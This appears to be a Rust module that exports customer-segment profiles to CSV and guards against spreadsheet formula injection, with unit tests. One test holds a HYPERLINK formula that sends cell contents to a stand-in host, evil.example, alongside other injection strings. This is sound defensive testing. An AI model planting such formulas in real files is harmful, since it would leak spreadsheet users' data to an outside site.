//! The CSV files SegmentIQ writes besides the customers' segments: segment profiles
//! ([`profiles_csv`]); and cells of every CSV (the web and REST downloads, the CLI's
//! `assignments.csv`) made safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (`=HYPERLINK(...)` can leak other cells to a web site), and some also do after a
//! leading tab or carriage return. Uploaded customer tables are other people's data, so every
//! such text cell is written with a leading `'`, which spreadsheets show as text and drop. A
//! cell that is a plain number (`-3.5`, `+7`) is left alone: it is a value, not a formula.

use std::borrow::Cow;

use super::profile::SegmentProfile;

/// The columns of [`profiles_csv`].
pub const PROFILE_COLUMNS: [&str; 16] = [
    "segment",
    "segment_name",
    "size",
    "share",
    "silhouette",
    "stability",
    "feature",
    "kind",
    "mean",
    "median",
    "z",
    "missing",
    "level",
    "count",
    "level_share",
    "lift",
];

/// Every segment's profile as one tidy table, ready for a spreadsheet or a BI tool: one row per
/// segment and numeric feature (mean, median, z, missing members), then one per segment,
/// categorical feature and top level (its count, its share of the segment, its lift over the
/// whole table). Size, share, silhouette and stability (`stability[segment]`, the segment's
/// mean Jaccard over resamples, when the run measured it) repeat on each of the segment's rows
/// so any row can be read alone; an absent value is an empty cell.
pub fn profiles_csv(profiles: &[SegmentProfile], stability: &[f64]) -> Vec<u8> {
    let number = |x: Option<f64>| x.map(|x| x.to_string()).unwrap_or_default();
    let mut out = csv::Writer::from_writer(Vec::new());
    let mut write = |cells: &[&str]| {
        let cells = cells.iter().map(|cell| spreadsheet_safe(cell).into_owned());
        // Writing to a Vec cannot fail.
        let _ = out.write_record(cells);
    };
    write(&PROFILE_COLUMNS);
    for p in profiles {
        let (size, share, silhouette, stable) = (
            p.size.to_string(),
            p.share.to_string(),
            number(p.silhouette),
            number(stability.get(p.segment).copied()),
        );
        let segment = [p.segment.to_string(), p.name.clone()];
        let head = |feature, kind| {
            [
                &segment[0],
                &segment[1],
                &size,
                &share,
                &silhouette,
                &stable,
            ]
            .map(String::as_str)
            .into_iter()
            .chain([feature, kind])
        };
        for t in &p.numeric {
            let (mean, median, z, missing) = (
                number(t.mean),
                number(t.median),
                number(t.z),
                t.missing.to_string(),
            );
            let row: Vec<&str> = head(&t.feature, "numeric")
                .chain([&*mean, &median, &z, &missing, "", "", "", ""])
                .collect();
            write(&row);
        }
        for t in &p.categorical {
            for l in &t.levels {
                let (count, share, lift) =
                    (l.count.to_string(), l.share.to_string(), l.lift.to_string());
                let row: Vec<&str> = head(&t.feature, "categorical")
                    .chain(["", "", "", "", &l.value, &count, &share, &lift])
                    .collect();
                write(&row);
            }
        }
    }
    out.into_inner().unwrap_or_default()
}

/// A download's header: SegmentIQ's own `leading` columns, then the table's `columns` made
/// spreadsheet-safe. A table column whose name repeats one before it (an earlier export
/// uploaded again has `row_index`, `cluster` and `segment_name` of its own) is written as
/// `original_<name>` (prefixed again until the name is new), so the file reads back: the reader
/// refuses a header that names a column twice.
pub fn download_header(leading: &[&str], columns: &[String]) -> Vec<String> {
    let mut header: Vec<String> = leading.iter().map(|c| c.to_string()).collect();
    for column in columns {
        let mut name = spreadsheet_safe(column).into_owned();
        while header.contains(&name) {
            name = format!("original_{name}");
        }
        header.push(name);
    }
    header
}

/// `cell` as written to a CSV file: prefixed with `'` when a spreadsheet would run it.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A finite decimal number with an optional sign, as spreadsheets read it (no `inf`, no
/// `NaN`).
fn is_plain_number(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(f64::is_finite)
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | 'e' | 'E'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::profile::{CategoricalTrait, LevelShare, NumericTrait};

    /// A table that already has the leading columns (an earlier export) keeps its own under
    /// new names, so the download never names a column twice.
    #[test]
    fn download_headers_never_repeat_a_name() {
        let columns = ["row_index", "age", "cluster", "original_cluster", "=cmd"].map(String::from);
        assert_eq!(
            download_header(&["row_index", "cluster", "segment_name"], &columns),
            [
                "row_index",
                "cluster",
                "segment_name",
                "original_row_index",
                "age",
                "original_cluster",
                "original_original_cluster",
                "'=cmd"
            ]
        );
    }

    #[test]
    fn profiles_are_one_tidy_table() {
        let profiles = vec![SegmentProfile {
            segment: 0,
            name: "=Big spenders".into(),
            size: 3,
            share: 0.75,
            numeric: vec![NumericTrait {
                feature: "spend".into(),
                mean: Some(10.5),
                median: None,
                z: Some(-1.25),
                missing: 1,
            }],
            categorical: vec![CategoricalTrait {
                feature: "region".into(),
                levels: vec![LevelShare {
                    value: "Oromia, East".into(),
                    count: 2,
                    share: 1.0,
                    lift: 1.5,
                }],
            }],
            silhouette: None,
        }];
        let csv = String::from_utf8(profiles_csv(&profiles, &[])).unwrap();
        assert_eq!(
            csv,
            "segment,segment_name,size,share,silhouette,stability,feature,kind,mean,median,z,missing,level,count,level_share,lift\n\
             0,'=Big spenders,3,0.75,,,spend,numeric,10.5,,-1.25,1,,,,\n\
             0,'=Big spenders,3,0.75,,,region,categorical,,,,,\"Oromia, East\",2,1,1.5\n"
        );
        let csv = String::from_utf8(profiles_csv(&profiles, &[0.875])).unwrap();
        assert!(
            csv.contains("\n0,'=Big spenders,3,0.75,,0.875,spend,"),
            "{csv}"
        );
    }

    #[test]
    fn formulas_become_text_and_numbers_stay() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-inf", "'-inf"),
            ("-", "'-"),
            ("-3.5", "-3.5"),
            ("+7", "+7"),
            ("-1e3", "-1e3"),
            ("Addis Ababa", "Addis Ababa"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(raw), written, "{raw:?}");
        }
    }
}
